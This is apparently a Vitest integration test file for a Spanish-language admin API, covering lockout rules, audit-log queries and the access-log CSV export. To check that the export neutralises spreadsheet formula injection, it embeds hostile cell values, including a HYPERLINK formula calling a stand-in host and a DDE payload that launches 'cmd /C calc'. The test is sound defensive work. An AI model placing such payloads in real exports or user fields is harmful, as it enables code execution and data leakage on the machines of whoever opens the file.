import { randomBytes, randomUUID } from 'node:crypto';
import { and, eq, sql } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fechaIso, formatoFecha } from '@worknet/domain/fechas';
import { auditoria } from '../src/platform/audit/audit.table';
import { correoSaliente } from '../src/platform/mail/mail.table';
import { intentoLogin, logAcceso } from '../src/modules/auth/auth.table';
import { sesion } from '../src/platform/identidad/identidad.table';
import { usuario } from '../src/platform/identidad/identidad.table';
import { MAX_FILAS_CSV } from '../src/modules/control/log-acceso.service';
import { appDePrueba, type Prueba } from './app-de-prueba';
import { crearUsuario, iniciarSesion, PASSWORD } from './factories';
import { peticiones } from './peticion';

let t: Prueba;
const api = peticiones(() => t);
let admin: { id: number; username: string };
let token: string;
beforeAll(async () => {
  t = await appDePrueba();
  admin = await crearUsuario(t.database.db, { items: ['Administrador'] });
  token = await iniciarSesion(t.app, admin.username);
});
afterAll(() => t.cerrar());

const db = () => t.database.db;
const unico = () => randomBytes(3).toString('hex');
const panel = async () => {
  const r = await api.get('/api/v1/control_panel', token);
  expect(r.statusCode).toBe(200);
  return r.json().data;
};
const minutos = (n: number) => new Date(Date.now() + n * 60_000);
const fallas = (username: string, hace: number[]) =>
  db()
    .insert(intentoLogin)
    .values(hace.map((m) => ({ username, ip: '10.0.0.9', exito: false, created_at: minutos(-m) })));
const loginMal = (username: string, ip = '127.0.0.1') => api.post('/api/v1/login', null, { username, password: 'incorrecta-123' }, { remoteAddress: ip });
const loginBien = (username: string, ip: string) => api.post('/api/v1/login', null, { username, password: PASSWORD }, { remoteAddress: ip });
const inicioDeHoy = () => new Date(`${fechaIso(new Date())}T00:00:00-03:00`);

describe('GET /api/v1/control_panel', () => {
  it('resume usuarios, sesiones abiertas, logins y fallas de hoy, correos, base y versión', async () => {
    const antes = await panel();
    const activo = await crearUsuario(db());
    await crearUsuario(db(), { activo: false });
    await iniciarSesion(t.app, activo.username);
    expect((await loginMal(activo.username)).statusCode).toBe(401);
    // Neither a revoked nor an expired session is open; a failure of yesterday is not today's.
    await db()
      .insert(sesion)
      .values([
        { id: randomUUID(), usuario_id: activo.id, origen: 'password', expira_at: minutos(60), revocada_at: new Date() },
        { id: randomUUID(), usuario_id: activo.id, origen: 'password', expira_at: minutos(-1) },
      ]);
    await db()
      .insert(intentoLogin)
      .values({ username: activo.username, ip: '10.0.0.1', exito: false, created_at: new Date(inicioDeHoy().getTime() - 60_000) });
    await db()
      .insert(correoSaliente)
      .values(
        (['pendiente', 'sin_smtp', 'sin_smtp', 'enviado', 'error'] as const).map((estado) => ({
          para: 'x@prueba.local',
          asunto: 'Prueba',
          texto: 'Hola',
          estado,
        })),
      );
    const d = await panel();
    expect(d.usuarios_activos - antes.usuarios_activos).toBe(1);
    expect(d.usuarios_inactivos - antes.usuarios_inactivos).toBe(1);
    expect(d.sesiones_abiertas - antes.sesiones_abiertas).toBe(1);
    expect(d.usuarios_con_sesion - antes.usuarios_con_sesion).toBe(1);
    expect(d.logins_hoy - antes.logins_hoy).toBe(1);
    expect(d.fallas_hoy - antes.fallas_hoy).toBe(1);
    expect({
      pendientes: d.correos.pendientes - antes.correos.pendientes,
      sin_smtp: d.correos.sin_smtp - antes.correos.sin_smtp,
      enviados: d.correos.enviados - antes.correos.enviados,
      error: d.correos.error - antes.correos.error,
    }).toEqual({ pendientes: 1, sin_smtp: 2, enviados: 1, error: 1 });
    expect(d.base.tipo).toBe(t.database.kind);
    expect(d.base.tamano_bytes).toBeGreaterThan(100_000);
    expect(d.node).toBe(process.version);
    expect(d.version).toMatch(/^\d+\.\d+\.\d+/);
    expect(new Date(d.iniciado_at).getTime()).toBeLessThanOrEqual(Date.now());
  });

  it('lista las cuentas bloqueadas con la regla del login: 5 fallas seguidas de un usuario desde una dirección en 15 minutos', async () => {
    const u = await crearUsuario(db());
    const bloqueada = u.username.toLowerCase();
    const seis = `seis_${unico()}`;
    const conExito = `exito_${unico()}`;
    const viejas = `viejas_${unico()}`;
    const cuatro = `cuatro_${unico()}`;
    await fallas(bloqueada, [10, 8, 6, 4, 2]);
    await fallas(seis, [12, 11, 9, 7, 5, 3]);
    await fallas(conExito, [14, 13, 12, 11, 2]);
    await db()
      .insert(intentoLogin)
      .values({ username: conExito, ip: '10.0.0.9', exito: true, created_at: minutos(-3) });
    await fallas(viejas, [40, 20, 4, 3, 2]);
    await fallas(cuatro, [4, 3, 2, 1]);
    const lista = (await panel()).cuentas_bloqueadas as { username: string; fallas: number; desbloqueo_at: string; usuario_id: number | null }[];
    const de = (n: string) => lista.find((c) => c.username === n);
    expect(de(conExito)).toBeUndefined();
    expect(de(viejas)).toBeUndefined();
    expect(de(cuatro)).toBeUndefined();
    expect(de(bloqueada)).toMatchObject({ fallas: 5, usuario_id: u.id, nombre_completo: `Persona ${u.username}` });
    // The lock lifts when the 5th newest failure leaves the 15-minute window.
    expect(Math.abs(new Date(de(bloqueada)!.desbloqueo_at).getTime() - minutos(5).getTime())).toBeLessThan(5_000);
    expect(de(seis)).toMatchObject({ fallas: 6, usuario_id: null, nombre_completo: null });
    expect(Math.abs(new Date(de(seis)!.desbloqueo_at).getTime() - minutos(4).getTime())).toBeLessThan(5_000);
    // Same rule as the login itself: locked from that address, not from another one.
    expect((await loginMal(u.username, '10.0.0.9')).statusCode).toBe(423);
    expect((await loginMal(u.username, '10.0.0.10')).statusCode).toBe(401);
  });
});

describe('bloqueos de inicio de sesión (GET /api/v1/bloqueos_login, POST /api/v1/bloqueos_login/levantar)', () => {
  const bloqueos = async () => {
    const r = await api.get('/api/v1/bloqueos_login', token);
    expect(r.statusCode).toBe(200);
    return r.json().data as {
      tipo: string;
      ip: string | null;
      username: string | null;
      usuario_id: number | null;
      fallas: number;
      usuarios_distintos: number | null;
      direcciones_distintas: number | null;
      hasta: string;
    }[];
  };
  const fallasDesde = (filas: { username: string; ip: string; hace?: number }[]) =>
    db()
      .insert(intentoLogin)
      .values(filas.map((f) => ({ username: f.username, ip: f.ip, exito: false, created_at: minutos(-(f.hace ?? 1)) })));
  const auditoriaDe = (entidadId: string) =>
    db()
      .select()
      .from(auditoria)
      .where(and(eq(auditoria.entidad, 'bloqueo_login'), eq(auditoria.entidad_id, entidadId), eq(auditoria.accion, 'levantar')));

  it('lista direcciones y usuarios sobre su presupuesto y pares bloqueados, con cuántas fallas y hasta cuándo', async () => {
    const ip = '10.20.0.1';
    const u = await crearUsuario(db());
    // 100 failures from one address, 10 of them 14 minutes ago, over 50 usernames.
    await fallasDesde(Array.from({ length: 100 }, (_, i) => ({ username: `spray_${i % 50}`, ip, hace: i < 10 ? 14 : 2 })));
    // 30 failures of one username from 30 addresses, the oldest 50 minutes ago.
    await fallasDesde(Array.from({ length: 30 }, (_, i) => ({ username: u.username, ip: `10.21.0.${i + 1}`, hace: i === 0 ? 50 : 5 })));
    const par = `par_${unico()}`;
    await fallasDesde([10, 8, 6, 4, 2].map((hace) => ({ username: par, ip: '10.22.0.1', hace })));
    const lista = await bloqueos();
    const direccion = lista.find((b) => b.tipo === 'direccion' && b.ip === ip);
    expect(direccion).toMatchObject({ username: null, fallas: 100, usuarios_distintos: 50, direcciones_distintas: null });
    // It lifts when the 100th newest failure (14 minutes ago) leaves the 15-minute window.
    expect(Math.abs(new Date(direccion!.hasta).getTime() - minutos(1).getTime())).toBeLessThan(5_000);
    const usuario = lista.find((b) => b.tipo === 'usuario' && b.username === u.username);
    expect(usuario).toMatchObject({ ip: null, usuario_id: u.id, nombre_completo: `Persona ${u.username}`, fallas: 30, direcciones_distintas: 30 });
    expect(Math.abs(new Date(usuario!.hasta).getTime() - minutos(10).getTime())).toBeLessThan(5_000);
    expect(lista.find((b) => b.tipo === 'par' && b.username === par)).toMatchObject({ ip: '10.22.0.1', usuario_id: null, fallas: 5 });
    // Under budget: not listed.
    expect(lista.find((b) => b.username === 'spray_1')).toBeUndefined();
    // The panel's summary counts them as locked accounts.
    expect((await panel()).cuentas_bloqueadas.map((c: { username: string }) => c.username)).toEqual(expect.arrayContaining([u.username, par]));
  });

  it('levantar una dirección anula sus fallas (quedan en la tabla), se audita y desde ahí se vuelve a entrar', async () => {
    const ip = '10.23.0.1';
    await fallasDesde(Array.from({ length: 100 }, (_, i) => ({ username: `otro_${i}`, ip })));
    const u = await crearUsuario(db());
    expect((await loginBien(u.username, ip)).statusCode).toBe(429);
    const r = await api.post('/api/v1/bloqueos_login/levantar', token, { ip: ` ${ip} ` });
    expect(r.statusCode).toBe(200);
    expect(r.json()).toMatchObject({ success: true, message: `Se levantó el bloqueo de la dirección ${ip}.`, data: { ip, username: null, fallas: 100 } });
    const [a] = await auditoriaDe(ip);
    expect(a).toMatchObject({ usuario_id: admin.id, antes: { ip, username: null, fallas: 100 }, despues: { ip, fallas: 0 } });
    const filas = await db().select().from(intentoLogin).where(eq(intentoLogin.ip, ip));
    expect(filas).toHaveLength(100);
    expect(filas.every((f) => f.anulado_at !== null)).toBe(true);
    expect((await bloqueos()).find((b) => b.ip === ip)).toBeUndefined();
    expect((await loginBien(u.username, ip)).statusCode).toBe(200);
  });

  it('levantar un usuario anula sus fallas de todas las direcciones (presupuesto y pares) y su dueño vuelve a entrar', async () => {
    const u = await crearUsuario(db());
    await fallasDesde(Array.from({ length: 30 }, (_, i) => ({ username: u.username, ip: `10.24.0.${i + 1}` })));
    await fallasDesde(Array.from({ length: 5 }, () => ({ username: u.username, ip: '10.24.1.1' })));
    expect((await loginBien(u.username, '10.24.2.1')).statusCode).toBe(423);
    expect((await loginBien(u.username, '10.24.1.1')).statusCode).toBe(423);
    const r = await api.post('/api/v1/bloqueos_login/levantar', token, { username: u.username.toUpperCase() });
    expect(r.json()).toMatchObject({ message: `Se levantó el bloqueo del usuario "${u.username}".`, data: { ip: null, username: u.username, fallas: 35 } });
    expect(await auditoriaDe(u.username)).toHaveLength(1);
    expect((await bloqueos()).filter((b) => b.username === u.username)).toEqual([]);
    expect((await loginBien(u.username, '10.24.2.1')).statusCode).toBe(200);
    expect((await loginBien(u.username, '10.24.1.1')).statusCode).toBe(200);
  });

  it('levantar un par (usuario y dirección) deja los demás bloqueos de ese usuario', async () => {
    const u = await crearUsuario(db());
    for (const ip of ['10.25.0.1', '10.25.0.2']) await fallasDesde(Array.from({ length: 5 }, () => ({ username: u.username, ip })));
    const r = await api.post('/api/v1/bloqueos_login/levantar', token, { username: u.username, ip: '10.25.0.1' });
    expect(r.json()).toMatchObject({ message: `Se levantó el bloqueo del usuario "${u.username}" desde la dirección 10.25.0.1.`, data: { fallas: 5 } });
    expect(await auditoriaDe(`${u.username}@10.25.0.1`)).toHaveLength(1);
    expect((await loginBien(u.username, '10.25.0.1')).statusCode).toBe(200);
    expect((await loginBien(u.username, '10.25.0.2')).statusCode).toBe(423);
  });

  it('sin fallas vigentes responde que no había nada que levantar y no escribe auditoría', async () => {
    const nombre = `libre_${unico()}`;
    const r = await api.post('/api/v1/bloqueos_login/levantar', token, { username: nombre });
    expect(r.statusCode).toBe(200);
    expect(r.json()).toMatchObject({ message: `No había intentos fallidos vigentes para el usuario "${nombre}".`, data: { fallas: 0 } });
    expect(await auditoriaDe(nombre)).toHaveLength(0);
  });

  it('exige admin.acceso.desbloquear: ni el panel ni editar usuarios alcanzan (403)', async () => {
    const u = await crearUsuario(db(), { items: ['admin.panel.ver', 'admin.usuario.editar'] });
    const tk = await iniciarSesion(t.app, u.username);
    expect((await api.get('/api/v1/control_panel', tk)).statusCode).toBe(200);
    expect((await api.get('/api/v1/bloqueos_login', tk)).statusCode).toBe(403);
    await fallasDesde(Array.from({ length: 5 }, () => ({ username: u.username, ip: '10.26.0.1' })));
    const r = await api.post('/api/v1/bloqueos_login/levantar', tk, { username: u.username });
    expect(r.statusCode).toBe(403);
    expect(
      await db()
        .select()
        .from(intentoLogin)
        .where(and(eq(intentoLogin.username, u.username), sql`${intentoLogin.anulado_at} is not null`)),
    ).toHaveLength(0);
    // The old unlock route, open to admin.usuario.editar, is gone.
    expect((await api.post('/api/v1/control_panel/desbloquear', tk, { username: u.username })).statusCode).toBe(404);
  });

  it('valida el cuerpo: sin dirección ni usuario, vacíos, de otro tipo o de 10 kB dan 400', async () => {
    for (const payload of [{}, { username: '   ' }, { ip: '' }, { username: 5 }, { ip: ['a'] }, { username: 'x'.repeat(10_240) }, { ip: 'x'.repeat(10_240) }]) {
      const r = await api.post('/api/v1/bloqueos_login/levantar', token, payload);
      expect(r.statusCode, JSON.stringify(payload).slice(0, 40)).toBe(400);
      expect(r.json()).toMatchObject({ success: false, code: 'DATOS_INVALIDOS' });
    }
    expect((await api.post('/api/v1/bloqueos_login/levantar', token, {})).json().message).toMatch(/Indique la dirección, el usuario o ambos/);
  });
});

describe('GET /api/v1/auditoria', () => {
  const entidad = `prueba_${unico()}`;
  let otro: { id: number; username: string };
  beforeAll(async () => {
    otro = await crearUsuario(db());
    await db().update(usuario).set({ nombre_completo: 'Mónica Pérez' }).where(eq(usuario.id, otro.id));
    await db()
      .insert(auditoria)
      .values([
        // 09/03 09:00, 09/03 23:30 and 10/03 00:30 in Buenos Aires.
        { usuario_id: admin.id, fecha: new Date('2026-03-09T12:00:00Z'), entidad, entidad_id: '7', accion: 'crear', despues: { nombre: 'Insumo' } },
        {
          usuario_id: otro.id,
          fecha: new Date('2026-03-10T02:30:00Z'),
          entidad,
          entidad_id: '7',
          accion: 'editar',
          antes: { nombre: 'Insumo' },
          despues: { nombre: 'Algodón' },
        },
        { usuario_id: null, fecha: new Date('2026-03-10T03:30:00Z'), entidad, entidad_id: 'QX-8', accion: 'eliminar', antes: { nombre: 'Gasa' } },
      ]);
  });

  it('filtra por entidad y días de Buenos Aires, la más nueva primero, con quién hizo el cambio', async () => {
    const r = await api.get(`/api/v1/auditoria?entidad=${entidad}&desde=2026-03-09&hasta=2026-03-09`, token);
    expect(r.statusCode).toBe(200);
    expect(r.json().total).toBe(2);
    const [primera, segunda] = r.json().data;
    expect(primera).toMatchObject({
      fecha: '2026-03-10T02:30:00.000Z',
      usuario: { id: otro.id, username: otro.username, nombre_completo: 'Mónica Pérez' },
      entidad,
      entidad_id: '7',
      accion: 'editar',
      antes: { nombre: 'Insumo' },
      despues: { nombre: 'Algodón' },
    });
    expect(segunda).toMatchObject({ accion: 'crear', usuario: { id: admin.id, username: admin.username } });
    const sistema = (await api.get(`/api/v1/auditoria?entidad=${entidad}&desde=2026-03-10`, token)).json();
    expect(sistema).toMatchObject({ total: 1, data: [{ accion: 'eliminar', usuario: null }] });
  });

  it('filtra por usuario, pagina y busca en el id, quien cambió o los datos sin acentos', async () => {
    expect((await api.get(`/api/v1/auditoria?entidad=${entidad}&usuario_id=${otro.id}`, token)).json()).toMatchObject({
      total: 1,
      data: [{ accion: 'editar' }],
    });
    const pagina = (await api.get(`/api/v1/auditoria?entidad=${entidad}&limit=1&skip=1`, token)).json();
    expect(pagina.total).toBe(3);
    expect(pagina.data.map((f: { accion: string }) => f.accion)).toEqual(['editar']);
    // Usernames in tests are hex, so 'QX-8' can only match the record id.
    expect((await api.get(`/api/v1/auditoria?entidad=${entidad}&filter=QX-8`, token)).json()).toMatchObject({ total: 1, data: [{ entidad_id: 'QX-8' }] });
    expect((await api.get(`/api/v1/auditoria?entidad=${entidad}&filter=perez`, token)).json().total).toBe(1);
    expect((await api.get(`/api/v1/auditoria?entidad=${entidad}&filter=ALGODON`, token)).json().total).toBe(1);
    const entidades = (await api.get('/api/v1/auditoria/entidades', token)).json().data;
    expect(entidades).toContain(entidad);
  });

  it('rechaza con 400 fechas inválidas o invertidas, ids no numéricos y textos de 10 kB', async () => {
    const invertidas = await api.get('/api/v1/auditoria?desde=2026-03-10&hasta=2026-03-09', token);
    expect(invertidas.statusCode).toBe(400);
    expect(invertidas.json().message).toBe('La fecha "desde" no puede ser posterior a la fecha "hasta".');
    for (const q of [
      'desde=09/03/2026',
      'hasta=2026-13-40',
      'desde=0000-01-01',
      'hasta=2026-02-30',
      'usuario_id=abc',
      'usuario_id=-3',
      `entidad=${'x'.repeat(10_240)}`,
      `filter=${'x'.repeat(10_240)}`,
      'limit=0',
    ]) {
      expect((await api.get(`/api/v1/auditoria?${q}`, token)).statusCode, q.slice(0, 30)).toBe(400);
    }
  });
});

describe('GET /api/v1/log_acceso y /csv', () => {
  const marca = unico();
  let jose: { id: number; username: string };
  beforeAll(async () => {
    jose = await crearUsuario(db(), { username: `jose_${marca}` });
    await db().update(usuario).set({ nombre_completo: 'José Pérez' }).where(eq(usuario.id, jose.id));
    await db()
      .insert(logAcceso)
      .values([
        {
          usuario_id: jose.id,
          fecha_acceso: new Date('2026-03-09T12:00:00Z'),
          platform: 'Windows',
          app_version: '1.0.49',
          browser: 'Firefox',
          ip: '10.1.1.1',
          message: 'login',
        },
        {
          usuario_id: jose.id,
          fecha_acceso: new Date('2026-03-10T02:30:00Z'),
          platform: 'Android',
          app_version: '1.0.50',
          browser: '=HYPERLINK("http://malo")',
          ip: '10.1.1.2',
          message: 'Dijo "hola";\nchau',
        },
        {
          usuario_id: jose.id,
          fecha_acceso: new Date('2026-03-10T03:30:00Z'),
          platform: 'Linux',
          app_version: '1.0.50',
          browser: 'Chromium',
          ip: '10.1.1.3',
          message: 'Sesión',
        },
      ]);
  });

  it('lista los accesos con el usuario, la más nueva primero, y busca sin acentos por nombre o usuario', async () => {
    const r = await api.get(`/api/v1/log_acceso?filter=${encodeURIComponent('jose perez')}`, token);
    expect(r.statusCode).toBe(200);
    expect(r.json().total).toBe(3);
    expect(r.json().data[0]).toEqual({
      id: expect.any(Number),
      fecha_acceso: '2026-03-10T03:30:00.000Z',
      usuario: { id: jose.id, username: jose.username, nombre_completo: 'José Pérez' },
      platform: 'Linux',
      app_version: '1.0.50',
      browser: 'Chromium',
      ip: '10.1.1.3',
      message: 'Sesión',
    });
    expect((await api.get(`/api/v1/log_acceso?filter=P%C3%89REZ`, token)).json().total).toBeGreaterThanOrEqual(3);
    expect((await api.get(`/api/v1/log_acceso?filter=${jose.username.toUpperCase()}`, token)).json().total).toBe(3);
    const porNavegador = (await api.get(`/api/v1/log_acceso?filter=${jose.username}&sortBy=browser`, token)).json().data;
    expect(porNavegador.map((f: { browser: string }) => f.browser)).toEqual(['=HYPERLINK("http://malo")', 'Chromium', 'Firefox']);
  });

  it('filtra por días de Buenos Aires y pagina', async () => {
    const dia9 = (await api.get(`/api/v1/log_acceso?filter=${jose.username}&desde=2026-03-09&hasta=2026-03-09`, token)).json();
    expect(dia9.total).toBe(2);
    expect(dia9.data.map((f: { platform: string }) => f.platform)).toEqual(['Android', 'Windows']);
    const pagina = (await api.get(`/api/v1/log_acceso?filter=${jose.username}&limit=1&skip=2`, token)).json();
    expect(pagina).toMatchObject({ total: 3, data: [{ platform: 'Windows' }] });
  });

  it('un acceso de un usuario borrado se lista sin usuario', async () => {
    const u = await crearUsuario(db());
    await db()
      .insert(logAcceso)
      .values({ usuario_id: u.id, fecha_acceso: new Date('2001-02-03T15:00:00Z'), platform: 'Huérfano' });
    await db().delete(usuario).where(eq(usuario.id, u.id));
    const r = (await api.get('/api/v1/log_acceso?desde=2001-02-03&hasta=2001-02-03', token)).json();
    expect(r).toMatchObject({ total: 1, data: [{ usuario: null, platform: 'Huérfano' }] });
  });

  it('rechaza con 400 consultas inválidas', async () => {
    for (const q of ['desde=2026-02-30', 'hasta=ayer', 'desde=2026-03-10&hasta=2026-03-01', `filter=${'x'.repeat(10_240)}`, 'limit=501', 'skip=x']) {
      expect((await api.get(`/api/v1/log_acceso?${q}`, token)).statusCode, q.slice(0, 30)).toBe(400);
    }
  });

  it('el CSV lleva BOM, ";", cabeceras en español, fechas de Buenos Aires y el nombre Reporte-Accesos-DD-MM-YYYY.csv', async () => {
    const r = await api.get(`/api/v1/log_acceso/csv?filter=${jose.username}`, token);
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    const hoy = formatoFecha(new Date()).replaceAll('/', '-');
    expect(r.headers['content-disposition']).toBe(`attachment; filename="Reporte-Accesos-${hoy}.csv"`);
    expect(r.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const texto = r.rawPayload.toString('utf8').slice(1);
    expect(texto.split('\r\n')[0]).toBe('Fecha;Usuario;Nombre;Plataforma;Versión;Navegador;IP;Mensaje');
    const filas = Papa.parse<string[]>(texto.trim(), { delimiter: ';' }).data;
    expect(filas).toHaveLength(4);
    expect(filas[1]).toEqual(['10/03/2026 00:30:00', jose.username, 'José Pérez', 'Linux', '1.0.50', 'Chromium', '10.1.1.3', 'Sesión']);
    expect(filas[3]).toEqual(['09/03/2026 09:00:00', jose.username, 'José Pérez', 'Windows', '1.0.49', 'Firefox', '10.1.1.1', 'login']);
    // A cell that Excel would run as a formula is neutralised; quotes, ';' and line breaks survive.
    expect(filas[2]![5]).toBe(`'=HYPERLINK("http://malo")`);
    expect(filas[2]![7]).toBe('Dijo "hola";\nchau');
  });

  // Issue 37, item 5: Papa's escapeFormulae tested /^[=+\-@\t\r].*$/, which a value with a line
  // break never matches, so an employee's "=HYPERLINK(…)\n…" through log_acceso reached the admin's
  // Excel as a formula. (The route trims the ends of each field; csv.test.ts covers leading blanks.)
  it('una fórmula que un empleado escribe por log_acceso sale neutralizada en el CSV, también con saltos de línea y en cualquier línea', async () => {
    const empleado = await crearUsuario(db(), { username: `empleado_${marca}` });
    const suToken = await iniciarSesion(t.app, empleado.username);
    const r = await api.post('/api/v1/log_acceso', suToken, {
      platform: '=HYPERLINK("http://malo/?"&A1)\nAndroid',
      appVersion: '-1+1\r\n2',
      browser: 'Firefox\r\n@SUM(A1:A9)',
      message: '=HYPERLINK("http://malo","Abrir")\nsegunda línea\n  -2+3\n\t+cmd|\' /C calc\'!A0\nfin = bien',
    });
    expect(r.statusCode, r.body).toBe(200);
    const csv = await api.get(`/api/v1/log_acceso/csv?filter=${empleado.username}`, token);
    expect(csv.statusCode).toBe(200);
    const filas = Papa.parse<string[]>(csv.rawPayload.toString('utf8').slice(1).trim(), { delimiter: ';' }).data;
    expect(filas).toHaveLength(2);
    const fila = filas[1]!;
    expect(fila[1]).toBe(empleado.username);
    expect(fila[3]).toBe(`'=HYPERLINK("http://malo/?"&A1)\nAndroid`);
    expect(fila[4]).toBe("'-1+1\r\n2");
    expect(fila[5]).toBe("Firefox\r\n'@SUM(A1:A9)");
    expect(fila[7]).toBe("'=HYPERLINK(\"http://malo\",\"Abrir\")\nsegunda línea\n'  -2+3\n'\t+cmd|' /C calc'!A0\nfin = bien");
    // No line of any cell starts a formula, blanks aside.
    for (const c of fila) for (const linea of c.split(/\r\n|\r|\n/)) expect(linea.trimStart(), JSON.stringify(linea)).not.toMatch(/^[=+\-@]/);
  });

  it('el CSV aplica los mismos filtros y responde 400 en el sobre JSON ante una consulta inválida', async () => {
    const r = await api.get(`/api/v1/log_acceso/csv?filter=${jose.username}&desde=2026-03-10`, token);
    const filas = Papa.parse<string[]>(r.rawPayload.toString('utf8').slice(1).trim(), { delimiter: ';' }).data;
    expect(filas.map((f) => f[3])).toEqual(['Plataforma', 'Linux']);
    const mala = await api.get('/api/v1/log_acceso/csv?desde=mañana', token);
    expect(mala.statusCode).toBe(400);
    expect(mala.json()).toMatchObject({ success: false, code: 'DATOS_INVALIDOS' });
  });

  it(`el CSV se corta en ${MAX_FILAS_CSV} filas, las más nuevas, y avisa cuántas quedaron afuera`, async () => {
    await db().execute(sql`insert into log_acceso (fecha_acceso, platform)
      select '1999-05-05T15:00:00Z'::timestamptz + make_interval(secs => g), 'Masivo' from generate_series(1, ${MAX_FILAS_CSV + 2}) g`);
    const r = await api.get('/api/v1/log_acceso/csv?desde=1999-05-05&hasta=1999-05-06', token);
    expect(r.statusCode).toBe(200);
    expect(r.headers['x-filas-omitidas']).toBe('2');
    const lineas = r.rawPayload.toString('utf8').trim().split('\r\n');
    expect(lineas).toHaveLength(MAX_FILAS_CSV + 1);
    expect(lineas[1]).toMatch(/^06\/05\/1999 /);
    await db().execute(sql`delete from log_acceso where platform = 'Masivo'`);
  }, 120_000);
});
